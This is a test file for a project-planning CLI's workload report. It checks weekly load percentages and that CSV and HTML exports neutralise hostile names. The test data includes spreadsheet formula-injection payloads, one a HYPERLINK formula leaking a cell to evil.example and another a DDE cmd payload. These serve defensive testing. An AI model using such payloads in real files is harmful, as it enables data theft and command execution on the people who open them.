/**
 * `poc-studio load` as a user runs it (the bundled bin): the contract's JSON rows on the examples
 * (zhao over-allocated in 2027-W04) and on a fixture of two plans sharing a person, with leave, a
 * halt and a half-time person (exact loadPercent values); csv and html with the injection corpus in
 * person and task names (formula guard, every text escaped, no script); refusals.
 */
import * as assert from 'assert';
import * as cp from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as YAML from 'yaml';
import { guardFormula } from '../../server/src/core/exports/csv';
import { htmlText } from '../../server/src/core/html';
import { PAYLOADS } from '../webview/injection-corpus';

const REPO = path.resolve(__dirname, '../../..');
const BIN = path.join(REPO, 'bin', 'poc-studio.js');
const EXAMPLES = path.join(REPO, 'examples');
const FIXTURE = path.join(REPO, 'test', 'fixtures', 'load');

function run(args: string[], cwd = REPO) {
  const r = cp.spawnSync(process.execPath, [BIN, 'load', ...args], { cwd, encoding: 'utf8', env: { ...process.env, LANG: 'C.UTF-8', LC_ALL: '', LC_MESSAGES: '' }, timeout: 60000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

interface Row {
  person: string;
  name: string;
  week: string;
  loadPercent: number;
  tasks: string[];
}

const FORMULAS = ['=1+1', '=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', "=cmd|' /C calc'!A0"];
const NAMES = [...PAYLOADS, ...FORMULAS];
const TEAM = 7;

/** One plan: a task per payload, owners named by payloads. */
function hostilePlan(): string {
  return YAML.stringify({
    kind: 'project',
    id: 'hostile',
    title: PAYLOADS[0],
    customer: PAYLOADS[1],
    start: '2027-02-01',
    team: Array.from({ length: TEAM }, (_, i) => ({ id: `o${i}`, name: NAMES[NAMES.length - 1 - i], role: PAYLOADS[i + 2] })),
    tasks: NAMES.map((p, i) => ({ id: `I${i + 1}`, name: p, owner: `o${i % TEAM}`, start: '2027-02-01', duration: '1d', allocation: 10 })),
  });
}

describe('CLI poc-studio load', function () {
  this.timeout(60000);

  it('prints the contract rows on the examples: zhao over in 2027-W04 with P5 and P6', () => {
    const r = run([EXAMPLES, '--format', 'json', '--from', '2027-01-20', '--weeks', '3', '--today', '2027-01-20']);
    assert.strictEqual(r.code, 0, r.stderr);
    const rows = JSON.parse(r.stdout) as Row[];
    for (const row of rows) assert.deepStrictEqual(Object.keys(row), ['person', 'name', 'week', 'loadPercent', 'tasks']);
    assert.deepStrictEqual(new Set(rows.map((x) => x.week)), new Set(['2027-W03', '2027-W04', '2027-W05']));
    const zhao = rows.filter((x) => x.person === 'zhao');
    // P5 (forecast 2027-01-19..28) and P6 (2027-01-25..27) at 100% each: 4 + 3 days on 5.
    assert.deepStrictEqual(zhao.find((x) => x.week === '2027-W04'), { person: 'zhao', name: '赵六', week: '2027-W04', loadPercent: 140, tasks: ['bank-log-impl/P5', 'bank-log-impl/P6'] });
  });

  it('gives exact percents for shared people, leave, a halt and a half-time person (a file argument: its folder)', () => {
    const r = run([path.join(FIXTURE, 'a.project.yaml'), '--from', '2027-W09', '--weeks', '2', '--today', '2027-02-20']);
    assert.strictEqual(r.code, 0, r.stderr);
    assert.deepStrictEqual(JSON.parse(r.stdout), [
      { person: 'qian', name: '钱八', week: '2027-W09', loadPercent: 100, tasks: ['impl-b/B2'] },
      { person: 'qian', name: '钱八', week: '2027-W10', loadPercent: 40, tasks: ['impl-b/B3'] },
      { person: 'zhao', name: '赵六', week: '2027-W09', loadPercent: 60, tasks: ['impl-a/A1', 'impl-b/B1'] },
      { person: 'zhao', name: '赵六', week: '2027-W10', loadPercent: 138, tasks: ['impl-a/A1', 'impl-b/B4'] },
    ]);
    // The default window: 8 weeks from the Monday of today's week; json is the default format.
    const d = run([FIXTURE, '--today', '2027-03-03']);
    assert.strictEqual(d.code, 0, d.stderr);
    assert.deepStrictEqual([...new Set((JSON.parse(d.stdout) as Row[]).map((x) => x.week))].sort(), ['2027-W09', '2027-W10']);
    assert.deepStrictEqual(JSON.parse(run([FIXTURE, '--today', '2027-03-15']).stdout), []);
  });

  it('writes CSV rows with the formula guard and html with every name escaped and no script', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'poc-studio-load-'));
    try {
      fs.writeFileSync(path.join(dir, 'hostile.project.yaml'), hostilePlan());
      const csv = run([dir, '--format', 'csv', '--from', '2027-02-01', '--weeks', '1', '--today', '2027-01-20']);
      assert.strictEqual(csv.code, 0, csv.stderr);
      assert.ok(csv.stdout.startsWith('\ufeffperson,name,week,loadPercent,tasks\r\n'), csv.stdout.slice(0, 80));
      const names = NAMES.slice(-TEAM).reverse();
      for (let i = 0; i < TEAM; i++) {
        const field = guardFormula(names[i]);
        const quoted = /[",\r\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field;
        assert.ok(csv.stdout.includes(`\r\no${i},${quoted},2027-W05,`), `o${i}: ${quoted}`);
      }
      for (const line of csv.stdout.slice(1).split('\r\n').slice(1, -1)) assert.doesNotMatch(line.split(',')[1], /^[=+\-@]/);

      const html = run([dir, '--format', 'html', '--from', '2027-02-01', '--weeks', '1', '--today', '2027-01-20', '--locale', 'en']);
      assert.strictEqual(html.code, 0, html.stderr);
      // Only the page's own elements, none with an event handler.
      const tags = new Set([...html.stdout.matchAll(/<([a-zA-Z][\w-]*)/g)].map((m) => m[1].toLowerCase()));
      assert.deepStrictEqual([...tags].filter((t) => !['html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'p', 'span', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'div', 'ul', 'li'].includes(t)), []);
      assert.doesNotMatch(html.stdout, /<[^>]*\son\w+=/i);
      assert.match(html.stdout, /script-src|default-src 'none'/);
      for (const n of NAMES) assert.ok(html.stdout.includes(htmlText(n.trim())), n);
      assert.match(html.stdout, /<td class="busy"/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('shows an over cell in html and refuses bad usage', () => {
    const html = run([FIXTURE, '--format', 'html', '--from', '2027-03-08', '--weeks', '1', '--today', '2027-02-20', '--locale', 'zh-CN']);
    assert.strictEqual(html.code, 0, html.stderr);
    assert.match(html.stdout, /<td class="over" title="超负荷"><div class="pct">138%<\/div><div class="leave">请假 1 天<\/div>/);
    for (const args of [[], [FIXTURE, '--format', 'xml'], [FIXTURE, '--weeks', '0'], [FIXTURE, '--from', 'soon'], [FIXTURE, '--today', '2027-13-01'], ['no-such-folder']]) {
      const r = run(args);
      assert.strictEqual(r.code, 2, `${args.join(' ')}: ${r.stdout}`);
    }
    assert.strictEqual(run(['--help']).code, 0);
  });
});
